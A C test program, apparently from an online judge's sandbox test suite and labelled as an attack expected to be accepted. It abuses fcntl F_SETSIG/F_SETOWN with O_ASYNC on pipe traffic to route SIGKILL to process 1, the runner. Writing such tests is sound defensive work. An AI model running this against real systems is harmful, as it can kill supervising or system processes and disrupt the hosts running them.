/* attack: makes the runner the owner of a pipe's signals, SIGKILL among them
 * expect: AC
 */
#define _GNU_SOURCE
#include <fcntl.h>
#include <signal.h>
#include <stdio.h>
#include <unistd.h>
int main(void) {
    int p[2];
    if (pipe(p) < 0) return 1;
    for (int fd = 0; fd < 5; fd++) {
        fcntl(fd, F_SETSIG, SIGKILL);
        fcntl(fd, F_SETOWN, 1);
        fcntl(fd, F_SETFL, O_ASYNC | O_NONBLOCK);
    }
    for (int i = 0; i < 1000; i++) {
        char c;
        if (write(p[1], "x", 1) < 0 || read(p[0], &c, 1) < 0) return 1;
    }
    fcntl(1, F_SETFL, 0);
    puts("held");
}
